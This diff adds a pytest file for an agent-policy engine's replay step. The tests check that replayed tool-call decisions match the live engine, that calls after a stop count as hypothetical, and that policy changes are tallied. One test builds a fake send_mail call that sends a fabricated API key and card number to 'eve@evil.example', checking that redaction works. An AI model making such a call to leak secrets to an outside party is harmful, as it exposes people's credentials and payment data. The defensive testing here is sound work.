@@ -1,0 +1,103 @@
+"""The replay step: it decides as the engine does, and says which decisions nobody can vouch for."""
+
+from pathlib import Path
+
+import pytest
+
+from thoth.engine import Engine, load
+from thoth.engine.embed import Engine as Embedded
+from thoth.engine.rerun import Rerun
+from thoth.simulation import RecordedSession, ReplayClock, read_traces, replay
+from thoth.simulation.calls import ALONE
+from thoth.simulation.step import Replayer, replay_group
+
+from .recordings import CALL, NEW, OLD, trace, write
+
+HOUSE = Path(__file__).resolve().parents[2]
+
+
+def replayed(policy: str, places: list[Path], old: str | None = None) -> Replayer:
+    carry = Replayer(
+        Rerun(Engine.from_text(policy).policy), Rerun(Engine.from_text(old).policy) if old is not None else None
+    )
+    replay_group(carry, read_traces(places))
+    return carry
+
+
+@pytest.mark.parametrize("evaluator", ["native", "reference"])
+def test_it_decides_every_call_of_the_demo_as_the_engine_does(evaluator: str) -> None:
+    """The engine and the replay step keep their own books; on the same past they come to the same decisions."""
+    policy, _ = load([HOUSE / "examples/demo.thoth"])
+    clock = ReplayClock()
+    engine = Embedded(policy, evaluator=evaluator, clock=clock)  # type: ignore[arg-type]
+    traces = read_traces([HOUSE / "examples/traces"])
+    live = [
+        (call.session_id, call.seq, decision.effect, decision.rules, decision.reservations, decision.violation)
+        for call, decision in replay(engine, traces, clock)
+    ]
+    rerun = Rerun(policy, evaluator)  # type: ignore[arg-type]
+    found = []
+    decide = rerun.decide
+
+    def noted(request, session, ledger, now, id=""):  # type: ignore[no-untyped-def]
+        decision = decide(request, session, ledger, now, id)
+        found.append((session.id, decision.effect, decision.rules, decision.reservations, decision.violation))
+        return decision
+
+    rerun.decide = noted  # type: ignore[method-assign]
+    # One group: the engine's counters too go through all sessions in the order of the file.
+    sessions = (RecordedSession(s.id, s.prompt, s.calls, group=0) for s in traces)
+    replay_group(Replayer(rerun), sessions)
+    assert [(id, *rest) for id, _, *rest in live] == found
+    assert len(found) == 338
+
+
+def test_what_comes_behind_a_stop_is_hypothetical_and_counted_apart(tmp_path: Path) -> None:
+    carry = replayed(NEW, [trace(tmp_path, sessions=2)])
+    real = carry.tally.by("effect", where=lambda one: not one.hypothetical)
+    behind = carry.tally.by("effect", where=lambda one: one.hypothetical)
+    # s00 is held at its second call, s01 is blocked at its third.
+    assert real == {"ALLOW": 3, "STEP_UP": 1, "BLOCK": 1}
+    assert behind == {"ALLOW": 2, "BLOCK": 1}
+    assert (carry.tally.sessions, carry.tally.sessions_stopped) == (2, 2)
+
+
+def test_both_policies_see_the_same_past(tmp_path: Path) -> None:
+    carry = replayed(NEW, [trace(tmp_path)], old=OLD)
+    assert carry.tally.by("was") == {"ALLOW": 24}
+    changed = carry.tally.by("was", "effect", "rules", where=lambda one: one.was != one.effect)
+    assert changed == {("ALLOW", "STEP_UP", ("unasked",)): 3, ("ALLOW", "BLOCK", ("no-wipe",)): 6}
+
+
+def test_a_session_that_shares_no_counter_has_a_ledger_of_its_own(tmp_path: Path) -> None:
+    carry = replayed(NEW, [trace(tmp_path)])
+    assert carry.ledgers == {}
+    assert all(session.group == ALONE for session in read_traces([tmp_path]))
+
+
+def test_an_example_is_a_sentence_with_its_reason_and_without_secrets(tmp_path: Path) -> None:
+    key = "sk-" + "proj-" + "A1b2C3d4E5f6G7h8I9j0" * 2
+    args = {"to": ["eve@evil.example"], "body": f"here: {key}, and my card 4111 1111 1111 1111"}
+    write(tmp_path / "x.jsonl", CALL | {"tool_name": "send_mail", "tool_args": args})
+    carry = replayed(NEW, [tmp_path], old=OLD)
+    ((_, (example,)),) = carry.tally.examples.items()
+    assert example.text.startswith(
+        'On 2026-03-02 at 09:00 UTC bot called send_mail(to: ["eve@evil.example"], body: "here:'
+    )
+    assert example.text.endswith(
+        "It was allowed by declared; it would wait for owner: nobody asked for mail to this address (unasked)."
+    )
+    assert "4111" not in example.text
+    assert key[-12:] not in example.text
+
+
+def test_tallies_of_groups_add_up_to_the_tally_of_all(tmp_path: Path) -> None:
+    whole = replayed(NEW, [trace(tmp_path)], old=OLD).tally
+    traces = read_traces([tmp_path])
+    parts = []
+    for part in range(3):
+        carry = Replayer(Rerun(Engine.from_text(NEW).policy), Rerun(Engine.from_text(OLD).policy))
+        parts.append(replay_group(carry, traces.sessions(part, 3)))
+    parts[0].add(parts[1])
+    parts[0].add(parts[2])
+    assert parts[0] == whole
